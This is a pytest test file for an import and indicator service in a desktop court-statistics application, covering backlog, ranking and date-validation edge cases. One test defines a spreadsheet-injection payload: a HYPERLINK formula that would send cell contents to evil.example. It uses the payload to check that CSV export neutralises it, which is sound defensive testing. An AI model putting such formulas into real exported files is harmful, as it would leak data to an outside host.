"""Issue 10: figures a chief justice can stake a ranking on, at the edges of ordinary monthly reporting.

Each test imports small hand-built files through the import service and reads the figures through the
indicator service, the way the window and the command line do.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import text

from desktop.clock import FixedClock
from desktop.domain.jalali import JalaliPeriod, PeriodKind
from desktop.imports.service import IMPORTED, REJECTED, ImportService
from desktop.indicators.service import IndicatorService
from desktop.store.database import Database
from tests.imports.conftest import CASE_HEADERS, MONTHLY_HEADERS, USER, write_csv

BRANCH_HEADERS = ("کد شعبه", "نام شعبه", "حوزه قضایی", "نوع واحد")


def monthly_row(branch: str, month: int, incoming: int, disposed: int, pending: int) -> tuple[str, ...]:
    return (branch, "1403", str(month), str(incoming), str(disposed), str(pending), "30", "10", "20")


def case(number: str, branch: str, registered: str, disposed: str = "") -> tuple[str, ...]:
    return (number, branch, "حقوقی", registered, "", "", "", disposed)


def by_code(table) -> dict[str, object]:
    return {row.code: row for row in table.rows}


def province_backlog(database: Database, period: str) -> float | None:
    (row,) = IndicatorService(database).table("backlog", "province", JalaliPeriod.parse(period)).rows
    return row.value


def branch_rows(database: Database, code: str, until: int) -> list[tuple]:
    """Every derived row of one branch up to month ``until``, to prove an import left them alone."""
    with database.engine.connect() as connection:
        return [tuple(row) for row in connection.execute(text(
            "SELECT im.* FROM indicator_month im JOIN branch b ON b.id = im.branch_id"
            " WHERE b.code = :code AND im.month_index <= :until ORDER BY month_index, case_type"),
            {"code": code, "until": until})]


# --- 1. A branch whose statistics lag by one month is never ranked, and its backlog is carried forward ----------


def test_a_branch_whose_statistics_lag_a_month_is_listed_as_incomplete_not_ranked_best(
        service: ImportService, database: Database, tmp_path: Path) -> None:
    rows = [monthly_row("101001", month, 10, 8, 50 + 2 * month) for month in (1, 2, 3)]
    rows += [monthly_row("101002", month, 10, 10, 30) for month in (1, 2)]
    rows += [monthly_row("102001", month, 20, 10, 100 + 10 * month) for month in (1, 2, 3)]
    assert service.import_file(write_csv(tmp_path / "m.csv", MONTHLY_HEADERS, rows), "monthly").status == IMPORTED

    table = IndicatorService(database).table("disposition_time", "branch", JalaliPeriod.parse("1403-Q1"))
    rows_by_code = by_code(table)
    lagging = rows_by_code["101002"]
    assert lagging.complete is False
    assert lagging.missing_months == ("1403-03",)
    assert lagging.rank is None and not lagging.is_best and not lagging.is_worst
    assert [row.code for row in table.ranked] == ["101001", "102001"]
    assert [row.code for row in table.insufficient] == ["101002"]
    assert [row.code for row in table.rows][-1] == "101002"  # listed after the ranked units
    # Its backlog is the one carried from month 2, not "no pending cases".
    backlog = by_code(IndicatorService(database).table("backlog", "branch", JalaliPeriod.parse("1403-03")))
    assert backlog["101002"].value == 30
    province = IndicatorService(database).table("backlog", "province", JalaliPeriod.parse("1403-Q1"))
    (row,) = province.rows
    assert row.value == 56 + 30 + 130
    assert (row.complete_branches, row.branches) == (2, 3)
    assert row.complete is False


def test_a_report_never_names_an_incomplete_branch_best_or_worst(
        service: ImportService, database: Database, tmp_path: Path) -> None:
    from desktop.domain.access import Principal
    from desktop.reports.indicator_values import best_and_worst, indicator_values

    rows = [monthly_row("101001", month, 10, 8, 80) for month in (1, 2, 3)]
    rows += [monthly_row("101002", month, 10, 10, 0) for month in (1, 2)]  # would be best with no backlog left
    rows += [monthly_row("102001", month, 20, 10, 10) for month in (1, 2, 3)]
    assert service.import_file(write_csv(tmp_path / "m.csv", MONTHLY_HEADERS, rows), "monthly").status == IMPORTED
    values = indicator_values(database, ["disposition_time"], "branch", JalaliPeriod.parse("1403-Q1"),
                              principal=Principal.system())["disposition_time"]
    assert {value.name: value.complete for value in values} == {
        "شعبه 101 حقوقی قم": True, "شعبه 102 کیفری قم": False, "شعبه 101 جعفریه": True}
    best, worst = best_and_worst("disposition_time", values)
    assert (best.name, worst.name) == ("شعبه 101 جعفریه", "شعبه 101 حقوقی قم")


def test_the_command_lines_json_and_csv_say_which_units_are_incomplete_and_why(
        service: ImportService, database: Database, tmp_path: Path, qapp) -> None:
    from desktop.cli.commands_indicators import _as_csv, _as_json

    rows = [monthly_row("101001", month, 10, 8, 50) for month in (1, 2, 3)]
    rows += [monthly_row("101002", month, 10, 10, 30) for month in (1, 2)]
    assert service.import_file(write_csv(tmp_path / "m.csv", MONTHLY_HEADERS, rows), "monthly").status == IMPORTED
    table = IndicatorService(database).table("disposition_time", "branch", JalaliPeriod.parse("1403-Q1"))
    document = json.loads(_as_json(table))
    assert document["unit"] == "days"
    by_unit = {row["code"]: row for row in document["rows"]}
    assert by_unit["101001"]["complete"] is True and by_unit["101001"]["rank"] == 1
    assert by_unit["101002"]["complete"] is False and by_unit["101002"]["rank"] is None
    assert by_unit["101002"]["missing_months"] == ["1403-03"]
    assert by_unit["102001"]["missing_months"] == ["1403-01", "1403-02", "1403-03"]
    province = json.loads(_as_json(IndicatorService(database).table(
        "backlog", "province", JalaliPeriod.parse("1403-Q1"))))["rows"][0]
    assert (province["complete"], province["complete_branches"], province["branches"]) == (False, 1, 3)
    csv_rows = {r["code"]: r for r in csv.DictReader(io.StringIO(_as_csv(table)))}
    assert csv_rows["101002"]["complete"] == "False" and csv_rows["101002"]["missing_months"] == "1403-03"


# --- 2. A later import touching one branch leaves the others' figures alone --------------------------------------


def test_a_later_listing_of_one_branch_keeps_every_other_branchs_backlog(
        database: Database, tmp_path: Path) -> None:
    history = [case("1", "101001", "1403/01/05"), case("2", "101001", "1403/01/06", "1403/02/01"),
               case("3", "101002", "1403/01/07"), case("4", "101002", "1403/02/07"),
               case("5", "102001", "1403/03/01"), case("6", "102001", "1403/03/02", "1403/06/20")]
    early = ImportService(database, FixedClock(date(2024, 9, 21)), USER)  # 1403/06/31
    assert early.import_file(write_csv(tmp_path / "h.csv", CASE_HEADERS, history), "cases").status == IMPORTED
    assert province_backlog(database, "1403-06") == 4
    before = {code: branch_rows(database, code, 16841) for code in ("101002", "102001")}

    later = ImportService(database, FixedClock(date(2025, 1, 1)), USER)
    new = write_csv(tmp_path / "n.csv", CASE_HEADERS, [case("7", "101001", "1403/10/05")])
    assert later.import_file(new, "cases").status == IMPORTED

    assert province_backlog(database, "1403-10") == 5  # the others' 3 carried forward, 101001's 1 + 1
    assert province_backlog(database, "1403") == 5
    assert province_backlog(database, "1403-06") == 4
    assert {code: branch_rows(database, code, 16841) for code in ("101002", "102001")} == before
    table = IndicatorService(database).table("backlog", "branch", JalaliPeriod.parse("1403-10"))
    rows = by_code(table)
    assert rows["101002"].value == 2 and rows["101002"].complete is False
    assert rows["101001"].complete is True


# --- 3. Monthly statistics are never "imported" and ignored -------------------------------------------------------


def test_monthly_statistics_after_a_listing_take_effect_and_inside_it_are_refused_with_the_reason(
        service: ImportService, database: Database, cases_csv: Path, tmp_path: Path) -> None:
    assert service.import_file(cases_csv, "cases").status == IMPORTED  # covers 1403/02-1403/06, 1002 pending
    after = write_csv(tmp_path / "after.csv", MONTHLY_HEADERS, [monthly_row("101002", 8, 5, 3, 40)])
    result = service.import_file(after, "monthly")
    assert result.status == IMPORTED
    assert result.changed_branches == ((16843, ("101002",)),)
    backlog = by_code(IndicatorService(database).table("backlog", "branch", JalaliPeriod.parse("1403-08")))
    assert backlog["101002"].value == 40

    inside = write_csv(tmp_path / "inside.csv", MONTHLY_HEADERS, [monthly_row("101002", 3, 5, 3, 40)])
    refused = service.import_file(inside, "monthly")
    assert refused.status == REJECTED
    (problem,) = refused.problems
    assert (problem.file, problem.row, problem.column) == ("inside.csv", 2, "ماه")
    assert "case listing" in problem.english()


def test_a_listing_over_monthly_statistics_says_which_months_it_replaced(
        service: ImportService, database: Database, cases_csv: Path, tmp_path: Path) -> None:
    monthly = write_csv(tmp_path / "m.csv", MONTHLY_HEADERS, [monthly_row("101001", 3, 5, 3, 40)])
    assert service.import_file(monthly, "monthly").status == IMPORTED
    result = service.import_file(cases_csv, "cases")
    assert result.status == IMPORTED
    assert any("101001" in note.english() and "1403/03" in note.english() for note in result.notes)
    backlog = by_code(IndicatorService(database).table("backlog", "branch", JalaliPeriod.parse("1403-03")))
    assert backlog["101001"].value == 1  # the listing's one pending case, not the replaced 40


# --- 4. Plausible dates only --------------------------------------------------------------------------------------


@pytest.mark.parametrize("registered", ["1300/01/01", "1369/12/29"])
def test_a_registration_before_1370_is_refused_naming_file_row_and_column(
        service: ImportService, tmp_path: Path, registered: str) -> None:
    path = write_csv(tmp_path / "old.csv", CASE_HEADERS, [case("1", "101001", registered)])
    result = service.import_file(path, "cases")
    assert result.status == REJECTED
    (problem,) = result.problems
    assert (problem.file, problem.row, problem.column) == ("old.csv", 2, "تاریخ ثبت")
    assert "1370" in problem.english()


def test_the_earliest_plausible_year_is_a_setting(service: ImportService, tmp_path: Path) -> None:
    service.set_earliest_year(1390)
    path = write_csv(tmp_path / "c.csv", CASE_HEADERS, [case("1", "101001", "1385/01/01")])
    assert service.import_file(path, "cases").status == REJECTED
    monthly = write_csv(tmp_path / "m.csv", MONTHLY_HEADERS,
                        [("101001", "1389", "1", "1", "1", "1", "1", "1", "1")])
    assert service.import_file(monthly, "monthly").status == REJECTED
    service.set_earliest_year(1370)
    assert service.import_file(path, "cases").status == IMPORTED


# --- 5. Snapshots withdraw cases; a branch move keeps history -----------------------------------------------------


def test_a_case_missing_from_a_newer_snapshot_is_withdrawn_after_confirmation_not_deleted(
        service: ImportService, database: Database, tmp_path: Path) -> None:
    first = write_csv(tmp_path / "a.csv", CASE_HEADERS, [case("1", "101001", "1403/02/01"),
                                                        case("2", "101001", "1403/02/02"),
                                                        case("3", "101002", "1403/02/03"),
                                                        case("9", "101001", "1403/03/20")])
    assert service.import_file(first, "cases").status == IMPORTED
    newer = write_csv(tmp_path / "b.csv", CASE_HEADERS, [case("1", "101001", "1403/02/01"),
                                                        case("3", "101002", "1403/02/03"),
                                                        case("9", "101001", "1403/03/20", "1403/03/25")])
    asked: list[dict[str, int]] = []
    cancelled = service.import_file(newer, "cases", confirm_withdrawals=lambda c: asked.append(dict(c)) or False)
    assert asked == [{"101001": 1}]
    assert cancelled.status == "cancelled"
    assert province_backlog(database, "1403-03") == 4  # nothing was written

    result = service.import_file(newer, "cases", confirm_withdrawals=lambda counts: True)
    assert result.status == IMPORTED and result.withdrawn == {"101001": 1}
    backlog = by_code(IndicatorService(database).table("backlog", "branch", JalaliPeriod.parse("1403-03")))
    assert backlog["101001"].value == 1 and backlog["101002"].value == 1
    assert backlog["101001"].totals.withdrawn == 1
    with database.engine.connect() as connection:
        assert connection.exec_driver_sql(
            "SELECT withdrawn_on IS NOT NULL FROM case_record WHERE case_number = '2'").scalar() == 1


def test_a_partial_listing_withdraws_nothing(service: ImportService, database: Database, tmp_path: Path) -> None:
    first = write_csv(tmp_path / "a.csv", CASE_HEADERS, [case("1", "101001", "1403/02/01"),
                                                        case("2", "101001", "1403/02/02")])
    assert service.import_file(first, "cases").status == IMPORTED
    part = write_csv(tmp_path / "b.csv", CASE_HEADERS, [case("1", "101001", "1403/02/01", "1403/02/09")])
    result = service.import_file(part, "cases", snapshot=False)
    assert result.withdrawn == {}
    assert province_backlog(database, "1403-02") == 1


def test_a_case_that_moves_branch_leaves_the_old_branchs_past_figures_alone(
        database: Database, tmp_path: Path) -> None:
    early = ImportService(database, FixedClock(date(2024, 6, 20)), USER)  # 1403/03/31
    first = write_csv(tmp_path / "a.csv", CASE_HEADERS, [case("1", "101001", "1403/02/01"),
                                                        case("2", "101002", "1403/03/05")])
    assert early.import_file(first, "cases").status == IMPORTED
    before = branch_rows(database, "101001", 16838)
    later = ImportService(database, FixedClock(date(2025, 1, 1)), USER)
    moved = write_csv(tmp_path / "b.csv", CASE_HEADERS, [case("1", "101002", "1403/02/01"),
                                                        case("2", "101002", "1403/03/05", "1403/05/01")])
    assert later.import_file(moved, "cases", snapshot=False).status == IMPORTED
    assert branch_rows(database, "101001", 16838) == before
    backlog = by_code(IndicatorService(database).table("backlog", "branch", JalaliPeriod.parse("1403-05")))
    assert backlog["101001"].value == 0 and backlog["101002"].value == 1


# --- 6. No spreadsheet injection -------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"جزئیات")'


def test_an_imported_branch_named_like_a_formula_is_inert_in_the_indicator_table_files(
        database: Database, tmp_path: Path) -> None:
    service = ImportService(database, FixedClock(date(2025, 1, 1)), USER)
    branches = write_csv(tmp_path / "b.csv", BRANCH_HEADERS,
                         [("103001", HYPERLINK, "=1+1", "")])
    assert service.import_file(branches, "branches").status == IMPORTED
    monthly = write_csv(tmp_path / "m.csv", MONTHLY_HEADERS,
                        [("103001", "1403", "1", "5", "5", "5", "1", "1", "1")])
    assert service.import_file(monthly, "monthly").status == IMPORTED
    table = IndicatorService(database).table("backlog", "branch", JalaliPeriod.parse("1403-01"))
    from desktop.cli.commands_indicators import _as_csv

    rows = list(csv.DictReader(io.StringIO(_as_csv(table))))
    (row,) = [r for r in rows if r["code"] == "103001"]
    assert row["name"] == "'" + HYPERLINK and row["parent"] == "'=1+1"


# --- 7. Court-statistics completeness --------------------------------------------------------------------------


def test_rolling_disposition_time_covers_the_twelve_months_ending_with_the_period(
        service: ImportService, database: Database, tmp_path: Path) -> None:
    # 1402/10 .. 1403/09: 12 months, 10 disposed each; the backlog at the end of 1403/09 is 120.
    rows = [(branch, str(year), str(month), "10", "10", "120" if (year, month) == (1403, 9) else "50",
             "30", "10", "20")
            for branch in ("101001", "101002", "102001")
            for year, month in [(1402, m) for m in (10, 11, 12)] + [(1403, m) for m in range(1, 10)]]
    assert service.import_file(write_csv(tmp_path / "m.csv", MONTHLY_HEADERS, rows), "monthly").status == IMPORTED
    indicators = IndicatorService(database)
    (rolling,) = indicators.table("disposition_time_12m", "province", JalaliPeriod.parse("1403-09")).rows
    days = (JalaliPeriod.parse("1403-09").end - JalaliPeriod.parse("1402-10").start).days + 1
    assert rolling.totals.disposed == 3 * 12 * 10 and rolling.complete
    assert rolling.value == pytest.approx(days * 3 * 120 / (3 * 12 * 10))
    (monthly,) = indicators.table("disposition_time", "province", JalaliPeriod.parse("1403-09")).rows
    assert monthly.value == pytest.approx(30 * 3 * 120 / 30)
    trend = indicators.trend("disposition_time_12m", "province", rolling.unit_id, PeriodKind.MONTH, 1,
                             until_month=1403 * 12 + 8)
    assert trend.series[0].values == (pytest.approx(rolling.value),)


def test_pending_over_two_years_counts_cases_older_than_730_days(
        service: ImportService, database: Database, tmp_path: Path) -> None:
    listing = [case("1", "101001", "1400/01/10"), case("2", "101001", "1402/06/01"), case("3", "101001", "1403/05/01")]
    assert service.import_file(write_csv(tmp_path / "c.csv", CASE_HEADERS, listing), "cases").status == IMPORTED
    (row,) = IndicatorService(database).table("pending_over_730", "branch", JalaliPeriod.parse("1403-05"),
                                              parent=("branch", 1)).rows
    assert (row.totals.pending_over_730, row.totals.pending_age_base) == (1, 3)
    assert row.value == pytest.approx(100 / 3)


# --- Rebuilding only what an import can change ---------------------------------------------------------------------


def _derived(database: Database) -> tuple[list[tuple], list[tuple]]:
    with database.engine.connect() as connection:
        return ([tuple(row) for row in connection.exec_driver_sql(
                    "SELECT * FROM indicator_month ORDER BY branch_id, month_index, case_type")],
                [tuple(row) for row in connection.exec_driver_sql(
                    "SELECT * FROM disposition_histogram ORDER BY branch_id, month_index, case_type, bucket")])


def _fresh(database: Database) -> tuple[list[tuple], list[tuple]]:
    """The derived tables as a rebuild of everything from the raw rows gives them (rolled back after)."""
    from desktop.indicators.aggregate import rebuild_all

    with database.engine.connect() as connection:
        transaction = connection.begin()
        rebuild_all(connection)
        fresh = ([tuple(row) for row in connection.exec_driver_sql(
                     "SELECT * FROM indicator_month ORDER BY branch_id, month_index, case_type")],
                 [tuple(row) for row in connection.exec_driver_sql(
                     "SELECT * FROM disposition_histogram ORDER BY branch_id, month_index, case_type, bucket")])
        transaction.rollback()
    return fresh


def test_monthly_statistics_rebuild_only_the_months_that_carry_them_and_agree_with_a_full_rebuild(
        service: ImportService, database: Database, cases_csv: Path, tmp_path: Path) -> None:
    from tests.imports.conftest import SATISFACTION_HEADERS

    assert service.import_file(cases_csv, "cases").status == IMPORTED  # 1403/02-1403/06, every branch
    later = write_csv(tmp_path / "later.csv", MONTHLY_HEADERS,
                      [monthly_row("101002", 7, 5, 3, 40), monthly_row("101002", 9, 2, 1, 41)])
    assert service.import_file(later, "monthly").status == IMPORTED  # 1403/08 carries 1403/07's backlog
    assert _derived(database) == _fresh(database)
    before = write_csv(tmp_path / "before.csv", MONTHLY_HEADERS, [monthly_row("101001", 1, 5, 3, 7)])
    result = service.import_file(before, "monthly")
    # 1403/01 only: from 1403/02 on the branch's figures come from its case listing.
    assert result.status == IMPORTED and result.months == (16836,)
    assert _derived(database) == _fresh(database)
    gap = write_csv(tmp_path / "gap.csv", MONTHLY_HEADERS, [monthly_row("101002", 8, 1, 1, 50)])
    result = service.import_file(gap, "monthly")
    assert result.status == IMPORTED and result.months == (16843,)  # 1403/09 has statistics of its own
    assert _derived(database) == _fresh(database)
    satisfaction = write_csv(tmp_path / "s.csv", SATISFACTION_HEADERS, [("102001", "1403", "3", "10", "80")])
    result = service.import_file(satisfaction, "satisfaction")
    assert result.status == IMPORTED and result.months == (16838,)
    assert _derived(database) == _fresh(database)
